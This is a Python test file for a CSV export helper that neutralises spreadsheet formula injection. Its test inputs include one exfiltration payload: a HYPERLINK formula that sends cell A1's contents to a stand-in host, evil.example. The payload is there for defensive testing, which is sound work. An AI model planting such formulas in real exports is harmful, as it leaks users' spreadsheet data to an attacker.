"""CSV cells: formula-like report text in CSV exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from hyreka_plugin_amazon.refhost.safety.csvcells import csv_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
        "+49 221 5550101",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_prefixes_are_neutralised(text: str) -> None:
    cell = csv_cell(text)
    assert cell == "'" + text
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Kaffeetasse „Grüße aus Köln“", "Kaffeetasse „Grüße aus Köln“"),
        ("Müller & Söhne GmbH", "Müller & Söhne GmbH"),
        (None, ""),
        (Decimal("-2.00"), "-2.00"),
        (3, "3"),
        ("Kaffee\x00tasse", "Kaffeetasse"),
    ],
)
def test_plain_text_and_numbers_are_kept(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
